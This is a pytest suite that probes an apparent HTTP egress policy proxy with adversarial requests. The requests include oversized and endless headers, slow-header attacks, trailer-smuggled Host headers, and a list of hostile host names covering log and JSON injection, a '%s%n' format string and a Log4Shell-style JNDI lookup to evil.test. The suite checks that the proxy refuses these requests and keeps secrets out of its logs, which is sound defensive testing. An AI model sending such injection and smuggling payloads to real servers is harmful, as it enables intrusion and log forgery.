"""What an HTTP client can cost before it is told no, and what of it is written down."""

import io
import json
import logging
import re
from typing import Final

import pytest

from box_policy.audit.records import Event
from box_policy.audit.sinks import Console
from box_policy.gate.limits import Limits
from box_policy.policy.reasons import Reason
from tests.adversary.arena import Arena, ids
from tests.adversary.attack import HIDDEN, Attack
from tests.adversary.conftest import OpenArena
from tests.adversary.http_wire import ALLOWED, FRONT, each, front, lines, refused, response, with_nonce
from tests.adversary.wire import request, sends
from tests.lab import plan

pytestmark = pytest.mark.asyncio(loop_scope="module")

GROUP = "HTTP: limits"

SECRET: Final = b"hunter2-hunter2"


ATTACKS = [
    refused(
        "a head of header lines without end",
        sends(
            plan.EVIL4, 80, lambda box: front(b"X-Secret: " + box.nonce.encode())[:-2] + b"X: y\r\n" * 350_000
        ),
        Reason.HTTP_INVALID,
        status=431,
        may_arrive=True,
    ),
    refused(
        "a header without end",
        sends(
            plan.EVIL4,
            80,
            lambda box: front(b"X-Secret: " + box.nonce.encode())[:-2] + b"X: " + b"y" * 300_000,
        ),
        Reason.HTTP_INVALID,
        status=431,
        may_arrive=True,
    ),
    refused(
        "a request line without end",
        each(b"GET /NONCE" + b"y" * 70_000, b"GET http://NONCE" + b"y" * 70_000),
        Reason.HTTP_INVALID,
        2,
        status=431,
    ),
    refused(
        "more headers than any client sends",
        each(front(*[b"X-%d: y" % n for n in range(4000)]), front(*[b"X: y"] * 256)),
        Reason.HTTP_INVALID,
        2,
        status=431,
        may_arrive=True,
    ),
    refused(
        "a chunk's extension without end",
        sends(
            plan.SHARED4,
            80,
            lambda _: front(
                b"Transfer-Encoding: chunked", line=b"POST /echo HTTP/1.1", body=b"2;" + b"y" * 200_000
            ),
        ),
        Reason.HTTP_INVALID,
    ),
    refused(
        "trailers without end",
        sends(
            plan.SHARED4,
            80,
            lambda _: front(
                b"Transfer-Encoding: chunked",
                line=b"POST /echo HTTP/1.1",
                body=b"0\r\n" + b"X: y\r\n" * 40_000,
            ),
        ),
        Reason.HTTP_INVALID,
    ),
    Attack(
        name="as many headers as a client may send",
        act=each(front(*[b"X: y"] * 252, b"Connection: close")),
        must_arrive=True,
        sees="http 200",
        reasons=(),
    ),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=ids(ATTACKS))
async def test_attack(arena: Arena, attack: Attack) -> None:
    await arena.contains(attack)


class TestTime:
    @pytest.mark.parametrize(
        "start",
        [
            b"GET /",
            b"GET / HTTP/1.1\r\nHost: front.cdn.test\r\nX: ",
            ALLOWED + b"GET ",
            ALLOWED + b"\r\nGET / HTTP/1.1\r\n",
        ],
        ids=["a line", "a head", "a line behind a request", "a head behind a request"],
    )
    async def test_a_head_that_comes_too_slowly(self, open_arena: OpenArena, start: bytes) -> None:
        arena = await open_arena(limits=Limits(verdict_timeout=0.2))
        inmate = await arena.inmate()
        line = await inmate.attacker.connect(plan.SHARED4, 80)
        await line.send(start)
        await line.send(b"y" * 100, segment=1, pause=0.01)
        assert (await line.see()).ended in ("reset", "EPIPE")
        await line.close()
        await arena.rest(inmate)
        assert arena.denials() == [Reason.TIMEOUT]

    async def test_between_requests_there_is_more_of_it(self, open_arena: OpenArena) -> None:
        """An empty line is nothing that a request has begun with."""
        arena = await open_arena(limits=Limits(verdict_timeout=0.2))
        inmate = await arena.inmate()
        line = await inmate.attacker.connect(plan.SHARED4, 80)
        await line.send(ALLOWED)
        await response(line)
        await line.send(b"\r")
        await line.send(b"\n")
        assert (await line.read(timeout=0.4)).kind == "silence"
        await line.send(ALLOWED)
        assert (await response(line)).code == 200
        await line.close()


async def test_more_pipelined_requests_than_are_kept_are_answered_all_the_same(arena: Arena) -> None:
    inmate = await arena.inmate()
    arena.begin(inmate)
    first = front(line=b"GET /slow?chunks=10&interval=0.01 HTTP/1.1")
    more = front(b"X: " + b"y" * 60_000) * 5 + front(b"Connection: close")
    seen = await inmate.attacker.exchange(plan.SHARED4, 80, first + more)
    assert (seen.data.count(b"HTTP/1.1 200"), seen.ended) == (7, "eof")


class TestRecords:
    NAMES: Final = (
        b"\x1b[31mred\x1b[0m.test",
        b'a\r\n{"event":"decision"}.test',
        b'a"},{"verdict":"allow".test',
        b"\xe2\x80\xa8forged\xe2\x80\xae.test",
        b"\xff\xfe.test",
        b"${jndi:ldap://evil.test/x}",
        b"%s%n.test",
        b"[bold]x[/bold].test",
        b"a\\u001b.test",
        b"x" * 60_000,
    )

    async def test_of_any_host_are_lines_of_their_own(self, arena: Arena) -> None:
        inmate = await arena.inmate()
        arena.begin(inmate)
        for name in self.NAMES:
            assert (await inmate.attacker.exchange(plan.SHARED4, 80, lines(b"Host: " + name))).kind == "http"
        shown = io.StringIO()
        console = Console(shown)
        for record in arena.records:
            text = record.as_json()
            assert json.loads(text)["event"] == "decision"
            assert re.fullmatch(r"[ -~]{1,4096}", text)
            console(record)
        console.close()
        assert len(arena.records) == len(self.NAMES)
        told = shown.getvalue().removesuffix("\n").split("\n")
        assert len(told) == len(self.NAMES)
        assert all(re.fullmatch(r"deny [ -~]+", line) for line in told)

    @pytest.mark.parametrize(
        "data",
        [
            front(line=b"GET /?token=SECRET HTTP/1.1"),
            front(line=b"GET /?token=SECRET x HTTP/1.1"),
            front(line=b"GET http://user:SECRET@front.cdn.test/ HTTP/1.1"),
            front(b"Authorization: Bearer SECRET", b"Cookie: a=SECRET"),
            front(b"Authorization Bearer SECRET"),
            front(b"Authorization : Bearer SECRET"),
            front(b"Cookie: SECRET\0"),
            front(b"Cookie: a", b" SECRET"),
            front(b"Content-Length: SECRET"),
            front(b"Transfer-Encoding: SECRET"),
            front(b"Transfer-Encoding: chunked", line=b"POST / HTTP/1.1", body=b"password=SECRET\r\n"),
            front(b"Transfer-Encoding: chunked", line=b"POST / HTTP/1.1", body=b"0\r\nSECRET\r\n\r\n"),
            front(b"Content-Length: 99", line=b"POST / HTTP/1.1", body=b"SECRET"),
            lines(b"Host: hidden.othercdn.test", b"Cookie: SECRET", line=b"GET /SECRET?SECRET HTTP/1.1"),
            b"GET /SECRET\r\n",
        ],
    )  # fmt: skip
    async def test_hold_no_secrets(self, arena: Arena, data: bytes, caplog: pytest.LogCaptureFixture) -> None:
        inmate = await arena.inmate()
        await inmate.attacker.do("release")
        await arena.rest(inmate)
        arena.begin(inmate)
        caplog.set_level(logging.DEBUG)
        line = await inmate.attacker.connect(plan.SHARED4, 80)
        await line.send(data.replace(b"SECRET", SECRET))
        if data.endswith((b"\r\n", b"\n")):
            await line.read(size=1)
        else:  # half a body: an upstream has it
            await arena.lab.expect_async(lambda: any(SECRET in c.received for c in arena.lab.connections()))
        await line.close()
        await arena.rest(inmate)
        assert arena.records
        assert SECRET.decode() not in "".join(record.as_json() for record in arena.records)
        assert SECRET.decode() not in caplog.text

    async def test_of_a_broken_body_are_one_denial(self, arena: Arena) -> None:
        """It comes with its head, so the head goes nowhere either."""
        inmate = await arena.inmate()
        await inmate.attacker.do("release")
        await arena.rest(inmate)
        arena.begin(inmate)
        data = front(b"Transfer-Encoding: chunked", line=b"POST / HTTP/1.1", body=b"no size\r\n")
        assert str(await inmate.attacker.exchange(plan.SHARED4, 80, data)) == "http 400"
        await arena.rest(inmate)
        assert [(r.event, r.reason) for r in arena.records] == [(Event.DECISION, Reason.HTTP_INVALID)]
        assert arena.lab.packets() == []

    async def test_are_one_for_each_request_and_one_for_the_end(self, arena: Arena) -> None:
        inmate = await arena.inmate()
        await inmate.attacker.do("release")
        await arena.rest(inmate)
        arena.begin(inmate)
        data = ALLOWED * 3 + request(inmate.attacker, HIDDEN)
        await inmate.attacker.exchange(plan.SHARED4, 80, data)
        await arena.rest(inmate)
        assert [(r.event, r.allowed, r.name) for r in arena.records] == [
            *[(Event.DECISION, True, FRONT.decode())] * 3,
            (Event.DECISION, False, HIDDEN.decode()),
            (Event.END, True, FRONT.decode()),
        ]
        assert len({record.connection for record in arena.records}) == 1


async def test_the_origin_reads_what_was_judged(arena: Arena) -> None:
    """Byte by byte: what the box has sent in a way of its own is sent in the one way that all read alike."""
    inmate = await arena.inmate()
    arena.begin(inmate)
    sent = with_nonce(
        inmate.attacker,
        b"POST HTTP://FRONT.CDN.test:80/a?b#c HTTP/1.1\n"
        b"hOST:  front.CDN.test:80\t\n"
        b"TRANSFER-ENCODING: \tChunked\n"
        b"x-secret:NONCE\n"
        b"Connection: TE, Keep-Alive , X-Hop,,close\n"
        b"TE: trailers\n"
        b"X-Hop: 1\n"
        b"Upgrade: h2c\n"
        b"Expect: 100-continue\n"
        b"X-Latin: \xe9\n"
        b"\n"
        b"00003;a=b\r\nabc\r\n2 \r\nde\r\n0\r\nHost: hidden.othercdn.test\r\n\r\n",
    )
    seen = await inmate.attacker.exchange(plan.SHARED4, 80, sent)
    assert seen.data.startswith(b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 ")
    await arena.lab.expect_async(lambda: any(r.complete for r in arena.lab.requests()))
    (connection,) = arena.lab.connections()
    assert connection.received == with_nonce(
        inmate.attacker,
        b"POST /a?b#c HTTP/1.1\r\n"
        b"hOST: front.CDN.test:80\r\n"
        b"TRANSFER-ENCODING: chunked\r\n"
        b"x-secret: NONCE\r\n"
        b"Connection: keep-alive, close\r\n"
        b"X-Latin: \xe9\r\n"
        b"\r\n"
        b"5\r\nabcde\r\n0\r\n\r\n",
    )
